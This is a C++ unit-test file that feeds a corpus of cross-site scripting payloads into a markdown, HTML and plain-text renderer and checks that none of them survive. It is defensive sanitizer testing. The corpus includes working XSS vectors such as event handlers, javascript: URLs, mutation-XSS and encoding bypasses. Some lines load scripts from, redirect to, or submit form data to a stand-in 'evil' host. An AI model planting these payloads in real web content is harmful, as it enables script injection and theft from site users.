// Bodies that ran, navigated or broke out elsewhere. The checker in rendered() is the judge; a few words must be gone besides.
#include "text/render.hpp"

namespace {

constexpr const char* kBodies[] = {
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil></SCRIPT>", "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//>", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>a</a>", "<a href=\"jav\tascript:alert(1)\">a</a>", "<a href=\"&#106;avascript:alert(1)\">a</a>", "<a href=\"\x01javascript:alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>", "<a href='vbscript:msgbox(1)'>a</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"http://x\" style=\"position:fixed;inset:0\">a</a>", "<a href=http://x\"onmouseover=alert(1)>a</a>", "<a href='http://x/\" onmouseover=\"alert(1)'>a</a>",
    "<a href=\"http://x/'onmouseover='alert(1)\">a</a>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<base href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<link rel=stylesheet href=//evil>", "<style>@import '//evil'</style>", "<div style=\"background:url(//evil)\">a</div>", "<form action=//evil><input name=body><button>a</button></form>",
    "<input autofocus onfocus=alert(1)>", "<p id=list data-key=root class=rj>a</p>", "<a name=body id=root href=#>a</a>", "<template shadowrootmode=open><slot></slot></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml><img src=x onerror=alert(1)>", "</div></div></article><script>alert(1)</script>", "<table><a href=http://x><tr><td></a><img src=x onerror=alert(1)>", "<b><b><b><b><p></b></b>a",
    "<a><b><a><b><a><p></b>a</a>", "<select><option><script>alert(1)</script>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>", "<portal src=//evil>",
    "<dialog open>a</dialog>", "<slot name=x>a</slot>", "<custom-element onclick=alert(1)>a</custom-element>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)", "<<script>alert(1)//<</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#x6A;avascript:alert(1))", "[a](java\\\nscript:alert(1))", "[a]( javascript:alert(1) )",
    "[a](<javascript:alert(1)>)", "[a](javascript://x/%0aalert(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)", "[a](\x01javascript:alert(1))", "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]", "![a](javascript:alert(1))", "![a\"onerror=\"alert(1)](http://x/)", "![a](http://x/\"onerror=\"alert(1))", "[a](http://x \"title\\\" onmouseover=alert(1)\")",
    "[<img src=x onerror=alert(1)>](http://x)", "[a](http://x/<script>alert(1)</script>)", "```\"><script>alert(1)</script>\na\n```", "```a\" onclick=\"alert(1)\na\n```", "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "# <script>alert(1)</script>", "http://x/\"onmouseover=alert(1)", "www.x.example\"onmouseover=alert(1)",
    "<http://x/\"onmouseover=alert(1)>", "<a@b.example\"onmouseover=alert(1)>", "[a](//evil)", "[a](\\\\evil)", "[a](http://good@evil)", "[a](https:evil)", "[a](#root)", "[a](?q)",
    "[x]: http://a\n[x]: javascript:alert(1)\n\n[x]", "[a](http://x\xE2\x80\xAEgpj.exe)", "\xE2\x80\xAE\xE2\x81\xA6 never closed", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "%3Cscript%3E", "\xEF\xBC\x9Cscript\xEF\xBC\x9E", "+ADw-script+AD4-", "\xC0\xBCscript",
};

}  // namespace

TEST_CASE("attacks: harmless in every format") {
  for (const char* body : kBodies) {
    CAPTURE(body);
    for (const Renderer renderer : {rejoinder::text::markdown, Renderer(rejoinder::text::host_html), rejoinder::text::plain}) {
      std::string out;
      if (!renderer(out, body)) {
        CHECK(out == "");
        continue;
      }
      CHECK(fault_in_body(out) == "");
    }
  }
}

TEST_CASE("attacks: in a host's HTML neither code nor handlers survive as text where they were none") {
  for (const char* body : {"a<script>alert(1)</script>", "a<style>alert(1)</style>", "a<img src=x onerror=alert(1)>", "a<svg onload=alert(1)>alert(1)</svg>",
                           "a<iframe srcdoc='alert(1)'>alert(1)</iframe>", "a<b onclick=alert(1)></b>", "a<template>alert(1)</template>"}) {
    CAPTURE(body);
    CHECK(host(body) == "<p>a</p>");
  }
}
